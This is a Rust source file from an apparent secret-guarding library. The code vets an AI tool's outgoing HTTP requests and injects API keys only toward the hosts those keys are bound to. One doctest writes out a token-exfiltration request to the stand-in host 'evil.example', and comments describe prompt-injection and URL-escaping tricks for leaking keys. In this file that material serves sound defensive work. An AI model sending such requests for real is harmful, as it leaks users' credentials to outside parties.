//! A tool's HTTP request, checked against the keys' bindings and given its keys (feature
//! `edge-http`).
//!
//! [`Edge::prepare_request`] is the whole decision, with no I/O but reading values through the
//! manager: an HTTP middleware turns its client's request into a [`ToolRequest`], sends the
//! [`PreparedRequest`] it gets back, and finishes it with the answer's status.

use std::collections::BTreeSet;
use std::fmt;
use std::ops::Range;
use std::sync::Arc;

use chrono::{DateTime, Utc};
use url::{Position, Url};
use zeroize::{Zeroize, Zeroizing};

use crate::error::{Error, ErrorKind, Result, quote_name};
use crate::guard::secret_part::secret_parts;
use crate::guard::{Encoding, Finding, base64};
use crate::rotation::ManagedKey;
use crate::secret::{SecretString, holds_run_of};
use crate::usage::{FailureClass, KeyId, Outcome, Usage};

use super::agent::Edge;
use super::binding::Presentation;
use super::unescape::unescaped;

/// An HTTP request as a tool made it: its URL, headers and body may hold handles (written by
/// the model), values the tool was given by [`Edge::restore`], or no key at all.
///
/// Its strings are zeroized when dropped; `Debug` shows the method (a standard one), the host
/// and the header names only (each withheld if it could hold a key: it is not checked yet).
///
/// ```
/// use keyward::edge::ToolRequest;
///
/// let request = ToolRequest::new("POST", "https://api.github.com/graphql")
///     .with_header("content-type", "application/json")
///     .with_body(r#"{"query": "{ viewer { login } }"}"#);
/// assert_eq!(
///     format!("{request:?}"),
///     r#"ToolRequest { method: "POST", host: Some("api.github.com"), headers: ["content-type"], body_len: Some(33) }"#
/// );
/// ```
#[derive(Clone)]
pub struct ToolRequest {
    method: String,
    url: String,
    headers: Vec<(String, String)>,
    body: Option<Vec<u8>>,
}

impl ToolRequest {
    /// A request without headers or body.
    pub fn new(method: impl Into<String>, url: impl Into<String>) -> ToolRequest {
        ToolRequest {
            method: method.into(),
            url: url.into(),
            headers: Vec::new(),
            body: None,
        }
    }

    /// Adds a header.
    pub fn with_header(mut self, name: impl Into<String>, value: impl Into<String>) -> ToolRequest {
        self.headers.push((name.into(), value.into()));
        self
    }

    /// Sets the body.
    pub fn with_body(mut self, body: impl Into<Vec<u8>>) -> ToolRequest {
        self.body = Some(body.into());
        self
    }

    /// The value of the first header called `name` (in any case).
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

impl Drop for ToolRequest {
    fn drop(&mut self) {
        self.url.zeroize();
        for (_, value) in &mut self.headers {
            value.zeroize();
        }
        self.body.zeroize();
    }
}

impl fmt::Debug for ToolRequest {
    /// The method if it is a standard one, the host and the header names unless they could
    /// hold a key (a run of 16 characters or more with a digit in it): the request is not
    /// checked yet, and any of them may hold one.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        const METHODS: [&str; 9] = [
            "GET", "HEAD", "POST", "PUT", "DELETE", "CONNECT", "OPTIONS", "TRACE", "PATCH",
        ];
        let could_hold_key = |text: &str| {
            text.split('.')
                .any(|part| part.len() >= 16 && part.bytes().any(|b| b.is_ascii_digit()))
        };
        let shown = |text: &str| match could_hold_key(text) {
            true => "(withheld)".to_owned(),
            false => text.to_owned(),
        };
        let host = Url::parse(&self.url)
            .ok()
            .and_then(|url| url.host_str().map(shown));
        let method = match METHODS
            .iter()
            .find(|m| m.eq_ignore_ascii_case(&self.method))
        {
            Some(method) => *method,
            None => "(another)",
        };
        let names: Vec<String> = self.headers.iter().map(|(n, _)| shown(n)).collect();
        f.debug_struct("ToolRequest")
            .field("method", &method)
            .field("host", &host)
            .field("headers", &names)
            .field("body_len", &self.body.as_ref().map(Vec::len))
            .finish()
    }
}

/// One header of a [`PreparedRequest`].
pub struct PreparedHeader {
    name: String,
    value: SecretString,
    sensitive: bool,
}

impl PreparedHeader {
    /// The name, as the tool wrote it (lowercase for a header the edge added).
    pub fn name(&self) -> &str {
        &self.name
    }

    /// The value.
    pub fn value(&self) -> &SecretString {
        &self.value
    }

    /// Whether the value carries a key: an HTTP client should mark it sensitive, so that it is
    /// left out of its logs and out of HPACK's tables.
    pub fn is_sensitive(&self) -> bool {
        self.sensitive
    }
}

impl fmt::Debug for PreparedHeader {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("PreparedHeader")
            .field("name", &self.name)
            .field("sensitive", &self.sensitive)
            .finish_non_exhaustive()
    }
}

/// A request ready to send: its keys put in toward a destination they are bound to.
///
/// It is also the use of those keys: finish it with the answer's status
/// ([`finish`](PreparedRequest::finish)) or a failure class ([`fail`](PreparedRequest::fail))
/// to record one use per key; dropped unfinished, each key's use is recorded as
/// [`FailureClass::Abandoned`]. Its strings are zeroized when dropped; `Debug` shows the
/// method, the destination, the header names and the keys.
pub struct PreparedRequest {
    method: String,
    url: SecretString,
    headers: Vec<PreparedHeader>,
    body: Option<Zeroizing<Vec<u8>>>,
    destination: String,
    keys: Vec<KeyId>,
    edge: Edge,
    tool: Arc<str>,
    started: DateTime<Utc>,
    finished: bool,
}

impl PreparedRequest {
    /// The method.
    pub fn method(&self) -> &str {
        &self.method
    }

    /// The URL; it may carry a key (a query parameter).
    pub fn url(&self) -> &SecretString {
        &self.url
    }

    /// The headers.
    pub fn headers(&self) -> &[PreparedHeader] {
        &self.headers
    }

    /// The body.
    pub fn body(&self) -> Option<&[u8]> {
        self.body.as_ref().map(|b| b.as_slice())
    }

    /// Where the request goes: `scheme://host:port`.
    pub fn destination(&self) -> &str {
        &self.destination
    }

    /// The keys the request carries, in the order of the policy.
    pub fn keys(&self) -> impl Iterator<Item = &str> {
        self.keys.iter().map(KeyId::label)
    }

    /// Records the answer's HTTP status as the outcome of each key's use: an error status as
    /// its failure class (401 unauthorized, 403 forbidden, 429 rate limited, ...), anything
    /// else as a success.
    pub fn finish(self, status: u16) {
        let outcome =
            FailureClass::from_http_status(status).map_or(Outcome::Success, Outcome::failure);
        self.finish_with(outcome);
    }

    /// Records a failure to get an answer (a timeout, a network error) for each key.
    pub fn fail(self, class: FailureClass) {
        self.finish_with(Outcome::failure(class));
    }

    /// Records the use of each key as a denial: the request went somewhere the edge did not
    /// check (the client followed a redirect by itself).
    #[cfg(feature = "reqwest")]
    pub(super) fn deny(self) {
        self.finish_with(Outcome::Denied);
    }

    /// The keys the request carries, with the values sent.
    #[cfg(feature = "reqwest")]
    pub(super) fn key_ids(&self) -> &[KeyId] {
        &self.keys
    }

    /// Takes the body out, to hand it to an HTTP client without a copy.
    #[cfg(feature = "reqwest")]
    pub(super) fn take_body(&mut self) -> Option<Zeroizing<Vec<u8>>> {
        self.body.take()
    }

    fn finish_with(mut self, outcome: Outcome) {
        self.record(outcome);
        self.finished = true;
    }

    fn record(&self, outcome: Outcome) {
        let inner = &*self.edge.inner;
        let latency = (inner.log.now() - self.started).to_std().ok();
        for key in &self.keys {
            let mut usage = Usage::new(key, Arc::clone(&inner.agent), Arc::clone(&self.tool))
                .with_outcome(outcome);
            if let Some(latency) = latency {
                usage = usage.with_latency(latency);
            }
            inner.log.record(usage);
        }
    }
}

impl Drop for PreparedRequest {
    fn drop(&mut self) {
        if !self.finished {
            self.record(Outcome::failure(FailureClass::Abandoned));
        }
    }
}

impl fmt::Debug for PreparedRequest {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("PreparedRequest")
            .field("method", &self.method)
            .field("destination", &self.destination)
            .field("headers", &self.headers)
            .field("body_len", &self.body.as_ref().map(|b| b.len()))
            .field("keys", &self.keys().collect::<Vec<_>>())
            .finish()
    }
}

/// What a request needs, once checked.
struct Plan {
    url: Url,
    destination: String,
    /// Every key the request will carry, sorted.
    keys: Vec<usize>,
    /// The keys put in by their binding alone, with how.
    injected: Vec<(usize, Presentation)>,
}

/// How a value is written where a handle stood.
#[derive(Clone, Copy)]
enum Encode {
    Raw,
    Percent,
    Json,
}

impl Edge {
    /// `request`, made by `tool`, ready to send: each handle in its URL, headers or body
    /// replaced by the value, and each key the tool may receive whose binding says how to
    /// present it put in ([`Presentation`]), but only toward a destination the key is bound
    /// to. Values are read through the manager, so a rotated key goes out new.
    ///
    /// A value replacing a handle is written as the place needs: percent-encoded in the URL,
    /// escaped in a JSON body, percent-encoded in a form body, as it is in a header. Headers
    /// that carry a key are marked sensitive.
    ///
    /// A key whose binding presents it goes only where the binding puts it: its handle or
    /// value anywhere else in the request (the body of an issue, the URL, another header) is
    /// refused, since the service would take it as content that a prompt injection could have
    /// it publish. Write handles yourself only for keys whose binding does not say how.
    ///
    /// ```
    /// use keyward::{ErrorKind, KeyManager, MemoryProvider};
    /// use keyward::edge::{Binding, Edge, EdgePolicy, ToolRequest};
    ///
    /// # let token = format!("ghp_{}", "FaKe0".repeat(8));
    /// let manager = KeyManager::builder(MemoryProvider::new().with("GITHUB_TOKEN", token.as_str())).build()?;
    /// let policy = EdgePolicy::builder()
    ///     .with_key("GITHUB_TOKEN", Binding::https("api.github.com").with_bearer())
    ///     .with_tool("github", ["GITHUB_TOKEN"])
    ///     .build()?;
    /// let edge = Edge::new("researcher", manager, policy)?;
    ///
    /// // By binding alone: the tool never held the key.
    /// let prepared = edge.prepare_request("github", ToolRequest::new("GET", "https://api.github.com/user"))?;
    /// let auth = &prepared.headers()[0];
    /// assert_eq!(auth.value().expose_secret(), format!("Bearer {token}"));
    /// assert!(auth.is_sensitive());
    /// prepared.finish(200);
    ///
    /// // A handle on its way elsewhere: refused, and recorded as a denial.
    /// let handle = edge.handle("GITHUB_TOKEN")?;
    /// let exfiltrate = ToolRequest::new("GET", format!("https://evil.example/?t={handle}"));
    /// let err = edge.prepare_request("github", exfiltrate).unwrap_err();
    /// assert_eq!(err.kind(), ErrorKind::PermissionDenied);
    /// assert!(err.to_string().contains("`GITHUB_TOKEN` may not be sent to `https://evil.example`"));
    /// assert_eq!(edge.usage_log().report().total.denied, 1);
    /// # Ok::<(), keyward::Error>(())
    /// ```
    ///
    /// # Errors
    ///
    /// Nothing is sent on any error, and each refused key is recorded as a denial.
    /// - [`ErrorKind::PermissionDenied`] when a handle goes to a destination its key is not
    ///   bound to (wrong host, plain `http`, another port, outside the path prefix), when the
    ///   tool may not receive a key whose handle or value the request carries, when a handle
    ///   was not issued by this edge, when the handle or value of a key its binding presents
    ///   is anywhere else in the request, or when `tool` is not in the policy; the message
    ///   names the key and the destination.
    /// - [`ErrorKind::Leak`] when the request carries the value of a key (in any encoding the
    ///   guard knows) toward a destination the key is not bound to, or the value of a key the
    ///   manager knows outside the policy.
    /// - [`ErrorKind::InvalidInput`] for a URL that does not parse or is not `http(s)`, a key
    ///   inside the host name, the method or a header's name (the message does not quote
    ///   them), a `Host`, `X-Forwarded-Host` or `Forwarded` header naming another host in a
    ///   request that carries a key, two keys to be presented in the same place, a value a header
    ///   cannot carry, a body that is not UTF-8 but holds a handle.
    /// - The manager's error when a value cannot be read.
    pub fn prepare_request(&self, tool: &str, request: ToolRequest) -> Result<PreparedRequest> {
        let plan = self.plan_request(tool, &request)?;
        let values = self.values(&plan.keys)?;
        self.build_request(tool, request, plan, &values)
    }

    /// [`prepare_request`](Edge::prepare_request) from async code, for managers of remote
    /// providers and HTTP middleware.
    ///
    /// # Errors
    ///
    /// As [`prepare_request`](Edge::prepare_request).
    pub async fn prepare_request_async(
        &self,
        tool: &str,
        request: ToolRequest,
    ) -> Result<PreparedRequest> {
        let plan = self.plan_request(tool, &request)?;
        let values = self.values_async(&plan.keys).await?;
        self.build_request(tool, request, plan, &values)
    }

    /// Every check of a request, before any value is read; each refusal is recorded.
    fn plan_request(&self, tool: &str, request: &ToolRequest) -> Result<Plan> {
        let inner = &*self.inner;
        let agent = &*inner.agent;
        self.touch_keys();
        self.check_tool_name(tool)?;
        let bad = |problem: String| Error::bad_edge_request(agent, tool, problem);

        let url =
            Url::parse(&request.url).map_err(|err| bad(format!("the URL is not valid ({err})")))?;
        let scheme = url.scheme();
        let (Some(host), Some(port)) = (url.host_str(), url.port_or_known_default()) else {
            return Err(bad("the URL has no host".to_owned()));
        };
        if scheme != "https" && scheme != "http" {
            return Err(bad(format!(
                "scheme {} is not `http` or `https`",
                quote_name(scheme)
            )));
        }
        let default_port = if scheme == "https" { 443 } else { 80 };
        let destination = if port == default_port {
            format!("{scheme}://{host}")
        } else {
            format!("{scheme}://{host}:{port}")
        };
        // Where the host lies in the parsed URL.
        let parsed_host = url[..Position::BeforeHost].len()..url[..Position::AfterPort].len();

        // What the request carries, field by field: handles (by key, or forged) and values (by
        // label). The URL twice: parsed, and as the tool wrote it (parsing writes the host in
        // lower case and turns the `\` of a `\u` escape into `/`).
        let body = request.body.as_deref().map(String::from_utf8_lossy);
        let mut fields: Vec<(Field<'_>, &str)> = vec![
            (Field::Url, url.as_str()),
            (Field::WrittenUrl, request.url.as_str()),
            (Field::Name, request.method.as_str()),
        ];
        for (name, value) in &request.headers {
            fields.push((Field::Name, name.as_str()));
            fields.push((Field::Header(name.as_str()), value.as_str()));
        }
        fields.extend(body.as_deref().map(|body| (Field::Body, body)));
        let redactor = inner.manager.redactor().current();
        let mut by_handle = BTreeSet::new();
        let mut by_value = BTreeSet::new();
        // Each key of the policy found, with the field it was found in.
        let mut places: Vec<(usize, Field<'_>)> = Vec::new();
        let mut forged: Vec<&str> = Vec::new();
        let mut foreign: Vec<String> = Vec::new();
        let mut in_host = false;
        let mut in_name = false;
        for &(place, field) in &fields {
            let handles = inner.handles.find(field);
            in_name |= place == Field::Name && !handles.is_empty();
            for found in handles {
                in_host |= place
                    .host_span(field, &parsed_host)
                    .is_some_and(|host| overlaps(&found.range, &host));
                match found.key {
                    Some(key) => {
                        by_handle.insert(key);
                        places.push((key, place));
                    }
                    None => forged.push(inner.handles.shown_name(&field[found.range])),
                }
            }
            let findings = registered(redactor.find(field));
            in_host |= in_host_part(place, field, &parsed_host, &findings);
            // The same with every escape undone (`%73%6B...`), where the guard's own
            // encodings do not reach; not for the parsed URL, which the written one stands for.
            let plain = match place {
                Field::Url => None,
                _ => unescaped(field),
            };
            let plain_findings = plain.as_deref().map(|p| registered(redactor.find(p)));
            if let (Some(plain), Some(found)) = (plain.as_deref(), &plain_findings) {
                in_host |= in_host_part(place, plain, &parsed_host, found);
            }
            let labels = findings
                .iter()
                .chain(plain_findings.iter().flatten())
                .map(|f| f.label());
            for label in labels {
                in_name |= place == Field::Name;
                match inner.policy.index_of(label) {
                    Some(key) => {
                        by_value.insert(key);
                        places.push((key, place));
                    }
                    None if !foreign.iter().any(|l| l == label) => {
                        foreign.push(label.to_owned());
                    }
                    None => {}
                }
            }
        }
        in_host |= self.host_holds_key(host);
        let carried: BTreeSet<usize> = by_handle.union(&by_value).copied().collect();
        // Before any message that names the destination: here it holds the key.
        if in_host || in_name {
            for &key in &carried {
                self.record_denied(tool, &inner.names[key]);
            }
            for label in &foreign {
                self.record_denied(tool, label);
            }
            let part = if in_host {
                "the host name"
            } else {
                "the method or a header name"
            };
            return Err(bad(format!("a key may not be part of {part}")));
        }
        if !foreign.is_empty() {
            for label in &foreign {
                self.record_denied(tool, label);
            }
            let labels: Vec<&str> = foreign.iter().map(String::as_str).collect();
            return Err(Error::foreign_value_in_request(
                agent,
                tool,
                &labels,
                &quote_name(&destination),
            ));
        }
        self.refuse_forged(tool, &forged)?;
        if !inner.policy.has_tool(tool) {
            for &key in &carried {
                self.record_denied(tool, &inner.names[key]);
            }
            return Err(Error::unknown_tool(agent, tool, &self.tool_names()));
        }
        let denied: Vec<&str> = carried
            .iter()
            .map(|&k| &*inner.names[k])
            .filter(|name| !inner.scope.allows(name, tool))
            .collect();
        if !denied.is_empty() {
            for name in &denied {
                self.record_denied(tool, name);
            }
            return Err(Error::tool_denied(
                agent,
                tool,
                &denied,
                &inner.policy.keys_for(tool),
            ));
        }
        let bound = |key: usize| {
            inner
                .policy
                .binding_to(key, scheme, host, Some(port), url.path())
        };
        if let Some(&key) = carried.iter().find(|&&k| bound(k).is_none()) {
            let name = &*inner.names[key];
            self.record_denied(tool, name);
            let hosts: Vec<String> = inner
                .policy
                .bindings(name)
                .iter()
                .map(ToString::to_string)
                .collect();
            let kind = if by_handle.contains(&key) {
                ErrorKind::PermissionDenied
            } else {
                ErrorKind::Leak
            };
            return Err(Error::unbound_destination(
                kind,
                agent,
                tool,
                name,
                &quote_name(&destination),
                &hosts,
            ));
        }

        // The keys this tool may receive that are bound here with a presentation.
        let mut injected: Vec<(usize, Presentation)> = Vec::new();
        for (key, name) in inner.names.iter().enumerate() {
            if !inner.scope.allows(name, tool) {
                continue;
            }
            if let Some(presentation) = bound(key).and_then(|b| b.presentation()) {
                let place = place_of(presentation);
                if let Some((other, _)) = injected.iter().find(|(_, p)| place_of(p) == place) {
                    return Err(bad(format!(
                        "secrets {} and {} are both bound to be presented as {} to {}",
                        quote_name(&inner.names[*other]),
                        quote_name(name),
                        place.1,
                        quote_name(&destination)
                    )));
                }
                injected.push((key, presentation.clone()));
            }
        }
        // A request that carries a key goes to the URL's host: a header naming another
        // (`Host`, `X-Forwarded-Host`, `Forwarded`) would have a proxy or a CDN route it there.
        if !carried.is_empty() || !injected.is_empty() {
            let authority = &url[Position::BeforeHost..Position::AfterPort];
            let elsewhere = request.headers.iter().find(|(name, value)| {
                let name = name.to_ascii_lowercase();
                match name.as_str() {
                    "host" | ":authority" | "x-forwarded-host" | "x-original-host" | "x-host" => {
                        let value = value.trim();
                        !value.eq_ignore_ascii_case(authority) && !value.eq_ignore_ascii_case(host)
                    }
                    "forwarded" => true,
                    _ => false,
                }
            });
            if let Some((name, _)) = elsewhere {
                for &key in carried.iter().chain(injected.iter().map(|(k, _)| k)) {
                    self.record_denied(tool, &inner.names[key]);
                }
                return Err(bad(format!(
                    "header {} names another host than the URL, and the request carries a key",
                    quote_name(name)
                )));
            }
        }
        // A key its binding presents here goes only where the binding puts it: its handle or
        // value anywhere else (the body, the path, another header) would hand it to the
        // service as content, which a prompt injection could have it publish.
        for (key, presentation) in &injected {
            let (in_header, place) = place_of(presentation);
            // The parameter the binding fills in is replaced: the rest of the URL is looked at,
            // once (the URL may name the parameter thousands of times).
            let mut rest_of_url: Option<bool> = None;
            let mut elsewhere = false;
            for &(k, field) in &places {
                if k != *key {
                    continue;
                }
                elsewhere = match field {
                    Field::Header(name) => !(in_header && name.eq_ignore_ascii_case(place)),
                    Field::Url | Field::WrittenUrl if !in_header => *rest_of_url
                        .get_or_insert_with(|| {
                            let mut rest = url.clone();
                            remove_query_pair(&mut rest, place);
                            let rest = Zeroizing::new(String::from(rest));
                            self.holds_key(&rest, *key, &redactor)
                        }),
                    _ => true,
                };
                if elsewhere {
                    break;
                }
            }
            if elsewhere {
                let name = &*inner.names[*key];
                self.record_denied(tool, name);
                return Err(Error::key_outside_its_presentation(
                    agent,
                    tool,
                    name,
                    &presentation.to_string(),
                ));
            }
        }
        let mut keys: BTreeSet<usize> = carried;
        keys.extend(injected.iter().map(|(k, _)| *k));
        Ok(Plan {
            url,
            destination,
            keys: keys.into_iter().collect(),
            injected,
        })
    }

    fn build_request(
        &self,
        tool: &str,
        request: ToolRequest,
        plan: Plan,
        values: &[Arc<ManagedKey>],
    ) -> Result<PreparedRequest> {
        let inner = &*self.inner;
        let bad = |problem: String| Error::bad_edge_request(&inner.agent, tool, problem);
        let keys = &plan.keys;
        let encoded = |encode: Encode| -> Vec<Zeroizing<String>> {
            values
                .iter()
                .map(|v| encode_value(v.expose_secret(), encode))
                .collect()
        };
        let value_of = |key: usize| -> &str {
            keys.binary_search(&key)
                .map_or("", |i| values[i].expose_secret())
        };

        // The URL: handles become percent-encoded values; then the query parameters.
        let percent = encoded(Encode::Percent);
        let url_text = Zeroizing::new(self.substitute(plan.url.as_str(), keys, &as_strs(&percent)));
        let mut url = Url::parse(&url_text)
            .map_err(|err| bad(format!("the URL is not valid once restored ({err})")))?;
        if (url.scheme(), url.host_str(), url.port_or_known_default())
            != (
                plan.url.scheme(),
                plan.url.host_str(),
                plan.url.port_or_known_default(),
            )
        {
            return Err(bad("restoring the URL changed its destination".to_owned()));
        }
        for (key, presentation) in &plan.injected {
            if let Presentation::Query(name) = presentation {
                remove_query_pair(&mut url, name);
                url.query_pairs_mut().append_pair(name, value_of(*key));
            }
        }

        // The headers: handles become values as they are; then the presented ones.
        let raw: Vec<&str> = values.iter().map(|v| v.expose_secret()).collect();
        let mut headers = Vec::with_capacity(request.headers.len() + plan.injected.len());
        let replaced: Vec<&str> = plan
            .injected
            .iter()
            .filter_map(|(_, p)| place_of(p).0.then_some(place_of(p).1))
            .collect();
        let redactor = inner.manager.redactor().current();
        for (name, value) in &request.headers {
            if replaced.iter().any(|r| name.eq_ignore_ascii_case(r)) {
                continue;
            }
            let sensitive = !inner.handles.find(value).is_empty() || redactor.is_leak(value);
            let value = self.substitute(value, keys, &raw);
            if value.bytes().any(|b| (b < 0x20 && b != b'\t') || b == 0x7f) {
                let mut value = value;
                value.zeroize();
                return Err(bad(format!(
                    "header {} would carry a control character",
                    quote_name(name)
                )));
            }
            headers.push(PreparedHeader {
                name: name.clone(),
                value: SecretString::from(value),
                sensitive,
            });
        }
        for (key, presentation) in &plan.injected {
            let value = value_of(*key);
            let (name, value) = match presentation {
                Presentation::Bearer => ("authorization".to_owned(), format!("Bearer {value}")),
                Presentation::Header(name) => (name.clone(), value.to_owned()),
                Presentation::BasicAuth { username } => {
                    let pair = Zeroizing::new(format!("{username}:{value}"));
                    (
                        "authorization".to_owned(),
                        format!("Basic {}", base64(pair.as_bytes())),
                    )
                }
                Presentation::Query(_) => continue,
            };
            if value.bytes().any(|b| (b < 0x20 && b != b'\t') || b == 0x7f) {
                let mut value = value;
                value.zeroize();
                return Err(bad(format!(
                    "secret {} holds a control character and cannot go into header {}",
                    quote_name(&inner.names[*key]),
                    quote_name(&name)
                )));
            }
            headers.push(PreparedHeader {
                name,
                value: SecretString::from(value),
                sensitive: true,
            });
        }

        // The body: handles become values written as its content type needs.
        let content_type = request
            .header("content-type")
            .unwrap_or("")
            .to_ascii_lowercase();
        let body = match request.body.as_deref() {
            None => None,
            Some(bytes) => match std::str::from_utf8(bytes) {
                Ok(text) => {
                    let encode = if content_type.contains("json") {
                        Encode::Json
                    } else if content_type.contains("x-www-form-urlencoded") {
                        Encode::Percent
                    } else {
                        Encode::Raw
                    };
                    let values = encoded(encode);
                    Some(Zeroizing::new(
                        self.substitute(text, keys, &as_strs(&values)).into_bytes(),
                    ))
                }
                Err(_)
                    if inner
                        .handles
                        .find(&String::from_utf8_lossy(bytes))
                        .is_empty() =>
                {
                    Some(Zeroizing::new(bytes.to_vec()))
                }
                Err(_) => {
                    return Err(bad(
                        "the body is not UTF-8 text, so no handle in it can be replaced".to_owned(),
                    ));
                }
            },
        };

        let ids: Vec<KeyId> = keys
            .iter()
            .zip(values)
            .map(|(&key, value)| self.key_id(key, value))
            .collect();
        Ok(PreparedRequest {
            method: request.method.clone(),
            url: SecretString::from(String::from(url)),
            headers,
            body,
            destination: plan.destination,
            keys: ids,
            edge: self.clone(),
            tool: Arc::from(tool),
            started: inner.log.now(),
            finished: false,
        })
    }
}

impl Edge {
    /// Whether `host` (as the URL parser writes it: in lower case, its escapes decoded) holds
    /// the secret part of a key the manager holds (the policy's, and any other), in any case,
    /// whole or a part of the fragment length, with dots anywhere in it (a key cut into labels,
    /// a JWT's own dots). The guard's search, which tells case apart, misses a key the parser
    /// wrote in lower case; and however the tool wrote the URL (`https:\\`, every byte
    /// escaped, fullwidth letters that IDNA maps to ASCII), this is the host that would be
    /// looked up.
    fn host_holds_key(&self, host: &str) -> bool {
        const PART: usize = crate::guard::Redactor::DEFAULT_FRAGMENT_LEN;
        // Shorter values are no keys to the guard either.
        const MIN: usize = crate::guard::Redactor::DEFAULT_MIN_SECRET_LEN;
        let without_dots = |text: &str| -> Zeroizing<Vec<u8>> {
            Zeroizing::new(
                text.bytes()
                    .filter(|&b| b != b'.')
                    .map(|b| b.to_ascii_lowercase())
                    .collect(),
            )
        };
        let host = without_dots(host);
        if host.len() < MIN {
            return false;
        }
        // Only the secret part of each key: a key that holds a host name (a connection
        // string's account and `EndpointSuffix=core.windows.net`, a DSN's host) shares it with
        // the hosts it is meant for.
        self.inner.manager.keys().iter().any(|key| {
            let value = key.expose_secret();
            secret_parts(value).into_iter().any(|part| {
                let secret = without_dots(&value[part.range]);
                // A user name shorter than a fragment (`postgres`) is no key.
                secret.len() >= MIN
                    && (part.credential || secret.len() >= PART)
                    && holds_run_of(&host, &secret, PART)
            })
        })
    }

    /// Whether `text` holds a handle or the value (in any encoding the guard knows, or with
    /// escapes undone) of key `key`.
    fn holds_key(&self, text: &str, key: usize, redactor: &crate::guard::Redactor) -> bool {
        let inner = &*self.inner;
        let name = &*inner.names[key];
        inner.handles.find(text).iter().any(|f| f.key == Some(key))
            || redactor.find(text).iter().any(|f| f.label() == name)
            || unescaped(text)
                .is_some_and(|plain| redactor.find(&plain).iter().any(|f| f.label() == name))
    }
}

impl Field<'_> {
    /// Where the host lies in `text`, this field's text (or the written URL with its escapes
    /// undone), if the field is a URL; `parsed_host` is its place in the parsed URL.
    fn host_span(self, text: &str, parsed_host: &Range<usize>) -> Option<Range<usize>> {
        match self {
            Field::Url => Some(parsed_host.clone()),
            Field::WrittenUrl => Some(written_host_span(text)),
            _ => None,
        }
    }
}

/// Whether a finding in `text` (the text of `place`, or that text with its escapes undone)
/// lies in the host name. (A key that holds a host name, as a connection string or a DSN does,
/// shares it with the hosts it is meant for: those characters are no fragment, as they are not
/// of the key's secret part.)
fn in_host_part(
    place: Field<'_>,
    text: &str,
    parsed_host: &Range<usize>,
    findings: &[Finding],
) -> bool {
    let Some(host) = place.host_span(text, parsed_host) else {
        return false;
    };
    findings.iter().any(|f| overlaps(&f.range(), &host))
}

/// Whether two ranges share a byte.
fn overlaps(a: &Range<usize>, b: &Range<usize>) -> bool {
    a.start < b.end && b.start < a.end
}

/// `findings` without the keys of known formats that nobody registered (a manager's redactor
/// may detect them): they are no keys of this edge, and a request may carry what it likes of
/// them.
fn registered(findings: Vec<Finding>) -> Vec<Finding> {
    findings
        .into_iter()
        .filter(|f| f.encoding() != Encoding::Detected)
        .collect()
}

/// A part of a request, as the checks of [`Edge::plan_request`] tell them apart.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Field<'r> {
    /// The URL, parsed.
    Url,
    /// The URL as the tool wrote it.
    WrittenUrl,
    /// The method or a header's name.
    Name,
    /// The value of the header of this name.
    Header(&'r str),
    Body,
}

/// Where the host (and port) of `url` lie as it is written: after `scheme:` and the slashes
/// or backslashes after it (the URL parser skips any number of either in `http(s)` URLs) and
/// any user name and password, up to the path, the query or the fragment (or a `\`, which the
/// parser reads as `/`).
fn written_host_span(url: &str) -> Range<usize> {
    let after_scheme = url.find(':').map_or(0, |at| at + 1);
    let rest = &url[after_scheme..];
    let start = after_scheme + rest.len() - rest.trim_start_matches(['/', '\\']).len();
    let end = url[start..]
        .find(['/', '?', '#', '\\'])
        .map_or(url.len(), |at| start + at);
    let host = url[start..end]
        .rfind('@')
        .map_or(start, |at| start + at + 1);
    host..end
}

/// Removes every query parameter called `name` from `url`.
/// The others are left as they were written: a signed URL's signature covers their bytes, and
/// some servers tell `flag` from `flag=`.
fn remove_query_pair(url: &mut Url, name: &str) {
    let Some(query) = url.query() else {
        return;
    };
    let kept: Vec<&str> = query
        .split('&')
        .filter(|pair| {
            url::form_urlencoded::parse(pair.as_bytes())
                .next()
                .is_none_or(|(n, _)| n != name)
        })
        .collect();
    let kept = Zeroizing::new(kept.join("&"));
    url.set_query((!kept.is_empty()).then_some(kept.as_str()));
}

fn as_strs(values: &[Zeroizing<String>]) -> Vec<&str> {
    values.iter().map(|v| v.as_str()).collect()
}

/// Where a presentation puts a key: a header (`true`) or a query parameter, by name.
fn place_of(presentation: &Presentation) -> (bool, &str) {
    match presentation {
        Presentation::Bearer | Presentation::BasicAuth { .. } => (true, "authorization"),
        Presentation::Header(name) => (true, name),
        Presentation::Query(name) => (false, name),
    }
}

/// `value` written for where it goes.
fn encode_value(value: &str, encode: Encode) -> Zeroizing<String> {
    let mut out = String::with_capacity(value.len() * 3);
    match encode {
        Encode::Raw => out.push_str(value),
        Encode::Percent => {
            for b in value.bytes() {
                if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                    out.push(char::from(b));
                } else {
                    out.push('%');
                    out.push(char::from(HEX[usize::from(b >> 4)]));
                    out.push(char::from(HEX[usize::from(b & 0xf)]));
                }
            }
        }
        Encode::Json => {
            for c in value.chars() {
                match c {
                    '"' => out.push_str("\\\""),
                    '\\' => out.push_str("\\\\"),
                    '\n' => out.push_str("\\n"),
                    '\r' => out.push_str("\\r"),
                    '\t' => out.push_str("\\t"),
                    c if u32::from(c) < 0x20 => {
                        let b = u32::from(c) as u8;
                        out.push_str("\\u00");
                        out.push(char::from(HEX[usize::from(b >> 4)]));
                        out.push(char::from(HEX[usize::from(b & 0xf)]));
                    }
                    c => out.push(c),
                }
            }
        }
    }
    Zeroizing::new(out)
}

const HEX: &[u8; 16] = b"0123456789ABCDEF";

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn values_are_encoded_for_their_place() {
        let value = "a b/\"c\\\n\u{1}é~";
        assert_eq!(&*encode_value(value, Encode::Raw), value);
        assert_eq!(
            &*encode_value(value, Encode::Percent),
            "a%20b%2F%22c%5C%0A%01%C3%A9~"
        );
        let json = encode_value(value, Encode::Json);
        assert_eq!(&*json, "a b/\\\"c\\\\\\n\\u0001é~");
        let parsed: String = serde_json::from_str(&format!("\"{}\"", &*json)).unwrap();
        assert_eq!(parsed, value);
    }
}
